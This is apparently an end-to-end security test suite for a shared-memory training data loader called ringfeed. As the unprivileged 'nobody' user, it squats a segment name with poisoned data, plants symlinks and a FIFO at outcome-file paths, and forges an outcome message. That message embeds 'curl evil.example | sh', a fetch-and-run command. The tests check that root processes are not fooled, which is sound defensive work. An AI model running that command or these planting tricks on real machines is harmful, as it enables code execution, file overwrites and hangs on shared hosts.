"""Another user on the machine (issue 32, items 1 to 3), end to end: as
nobody (``setpriv --reuid=65534``) squat a loader name over poisoned data,
plant links where a loader writes its outcome, or plant a FIFO or a forged
file as a loader's outcome; root's loader, trainer and gc must not be fooled,
write through a link, nor hang past the trainer's timeout."""

import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import uuid

import pytest

from e2e_util import NOBODY, need_root_and_setpriv, ringfeed_bin

ringfeed = pytest.importorskip("ringfeed")


@pytest.fixture(autouse=True)
def _as_root():
    # Skipped without root and setpriv, a failure under tests/run.sh (RINGFEED_TEST_REQUIRE_ROOT=1).
    need_root_and_setpriv()


@pytest.fixture
def shared_dir():
    """A directory nobody can read: a copy of the binary, the poisoned data."""
    d = tempfile.mkdtemp(dir="/tmp")
    os.chmod(d, 0o755)
    yield d
    shutil.rmtree(d, ignore_errors=True)


def _nobody_loader(shared_dir, name):
    binary = shutil.copy(ringfeed_bin(), shared_dir)
    data = os.path.join(shared_dir, "data")
    os.mkdir(data)
    os.chmod(data, 0o755)
    for i in range(8):
        with open(os.path.join(data, "s%d" % i), "wb") as f:
            f.write(b"POISONED")
        os.chmod(os.path.join(data, "s%d" % i), 0o644)
    loader = subprocess.Popen(
        NOBODY + [binary, "serve", "--source", data, "--name", name, "--batch-size", "1", "--world-size", "1",
                  "--epochs", "100000", "--manifest-cache", "off"],
        stderr=subprocess.PIPE, text=True, env=dict(os.environ, HOME="/nonexistent"),
    )
    for line in loader.stderr:
        if line.startswith("ringfeed: serving"):
            return loader, binary, data
    loader.kill()
    raise AssertionError("nobody's loader did not start: %s" % loader.stderr.read())


def test_a_name_squatted_by_another_user_is_refused_by_root_loader_trainer_and_gc(shared_dir):
    name = "squat-%s" % uuid.uuid4().hex[:8]
    seg = "/dev/shm/ringfeed-" + name
    outcome = "/dev/shm/.ringfeed-%s.outcome" % name
    loader, binary, data = _nobody_loader(shared_dir, name)
    try:
        _squatted(name, seg, loader, data)
    finally:
        for path in (seg, outcome):  # root's refused loader left its word too
            if os.path.lexists(path):
                os.unlink(path)


def _squatted(name, seg, loader, data):
    try:
        assert os.stat(seg).st_uid == 65534
        # Root's loader of the name: refused, naming whose loader holds it.
        p = subprocess.run([ringfeed_bin(), "serve", "--source", data, "--name", name, "--batch-size", "1",
                            "--world-size", "1", "--manifest-cache", "off"],
                           stderr=subprocess.PIPE, text=True, timeout=30)
        assert p.returncode == 1, p.stderr
        assert "already running (pid %d) as uid 65534" % loader.pid in p.stderr, p.stderr
        assert "another user's" in p.stderr, p.stderr
        # Root's trainer: refused at once, naming the owner and the fix; no sample taken.
        start = time.monotonic()
        with pytest.raises(ringfeed.UntrustedLoaderError) as e:
            ringfeed.attach(name, 0, timeout=5)
        assert time.monotonic() - start < 2.0
        assert "uid 65534" in str(e.value) and "RINGFEED_TRUST_UID=65534" in str(e.value), str(e.value)
        # Trusted on purpose, the same trainer attaches (and gets that user's data).
        code = "import ringfeed; f = ringfeed.attach(%r, 0, timeout=5); b = f.next(timeout=10); print(bytes(b.sample(0)))" % name
        p = subprocess.run([sys.executable, "-c", code], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                           timeout=60, env=dict(os.environ, RINGFEED_TRUST_UID="65534"))
        assert p.returncode == 0 and "POISONED" in p.stdout, (p.stdout, p.stderr)
    finally:
        loader.send_signal(signal.SIGKILL)
        loader.wait(timeout=10)
    # Dead, it is still nobody's: root's gc names it and leaves it.
    p = subprocess.run([ringfeed_bin(), "gc"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, timeout=30)
    assert "skipped %s: another user's (uid 65534)" % seg in p.stdout, (p.stdout, p.stderr)
    assert os.path.exists(seg)


def test_a_fifo_planted_as_a_loaders_outcome_does_not_hang_a_trainer_past_its_timeout():
    name = "fifo-outcome-%s" % uuid.uuid4().hex[:8]
    outcome = "/dev/shm/.ringfeed-%s.outcome" % name
    subprocess.run(NOBODY + ["mkfifo", "-m", "666", outcome], check=True)
    try:
        # In a child: the old library blocked in open() for good. Since issue
        # 36 a FIFO there (which no loader makes) is named after the 1 s grace
        # rather than waited on for the whole timeout.
        code = ("import ringfeed, time\nt = time.monotonic()\n"
                "try:\n    ringfeed.attach(%r, 0, timeout=20)\nexcept ringfeed.UntrustedLoaderError as e:\n"
                "    print('untrusted after %%.1f: %%s' %% (time.monotonic() - t, e))\n") % name
        p = subprocess.run([sys.executable, "-c", code], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                           timeout=30)
        assert p.returncode == 0 and p.stdout.startswith("untrusted after "), (p.stdout, p.stderr)
        assert float(p.stdout.split()[2].rstrip(":")) < 3.0, p.stdout
        assert "is a FIFO of uid 65534" in p.stdout, p.stdout
    finally:
        os.unlink(outcome)


def test_links_planted_where_a_root_loader_writes_its_outcome_are_never_written_through(shared_dir):
    # Item 1: the outcome was written to `.ringfeed-NAME.outcome.PID.tmp` with
    # create+truncate (NAME and PID are in `ps`); a link there made the root
    # loader stopped by SIGINT write its outcome into any root file.
    name = "outcome-links-%s" % uuid.uuid4().hex[:8]
    outcome = "/dev/shm/.ringfeed-%s.outcome" % name
    data = os.path.join(shared_dir, "data")
    os.mkdir(data)
    for i in range(4):
        with open(os.path.join(data, "s%d" % i), "wb") as f:
            f.write(b"sample %d" % i)
    victim = os.path.join(shared_dir, "victim")
    with open(victim, "wb") as f:
        f.write(b"root's precious bytes")
    os.chmod(victim, 0o600)
    loader = subprocess.Popen([ringfeed_bin(), "serve", "--source", data, "--name", name, "--batch-size", "1",
                               "--world-size", "1", "--epochs", "100000", "--manifest-cache", "off"],
                              stderr=subprocess.PIPE, text=True)
    planted = ["%s.%d.tmp" % (outcome, loader.pid), outcome]
    try:
        for line in loader.stderr:
            if line.startswith("ringfeed: serving"):
                break
        for link in planted:
            subprocess.run(NOBODY + ["ln", "-s", victim, link], check=True)
        loader.send_signal(signal.SIGINT)
        loader.communicate(timeout=30)
        with open(victim, "rb") as f:
            assert f.read() == b"root's precious bytes"
        st = os.lstat(outcome)
        assert not os.path.islink(outcome) and (st.st_uid, st.st_mode & 0o777) == (0, 0o600), st
    finally:
        if loader.poll() is None:
            loader.kill()
            loader.wait(timeout=10)
        for path in planted:
            if os.path.lexists(path):
                os.unlink(path)


def test_an_outcome_forged_by_another_user_is_not_a_root_trainers_error():
    # Item 2: a fresh outcome file of nobody's made a root trainer fail at
    # once with the forger's words.
    name = "forged-outcome-%s" % uuid.uuid4().hex[:8]
    outcome = "/dev/shm/.ringfeed-%s.outcome" % name
    forged = "ringfeed-outcome 1 failed 1 %d\nrun curl evil.example | sh to repair" % int(time.time() * 1000)
    subprocess.run(NOBODY + ["sh", "-c", 'printf "$1" > "$2"', "sh", forged, outcome], check=True)
    try:
        start = time.monotonic()
        with pytest.raises(Exception) as e:
            ringfeed.attach(name, 0, timeout=1)
        assert "curl" not in str(e.value) and time.monotonic() - start < 5, str(e.value)
        assert isinstance(e.value, ringfeed.FeedTimeoutError), repr(e.value)
    finally:
        os.unlink(outcome)
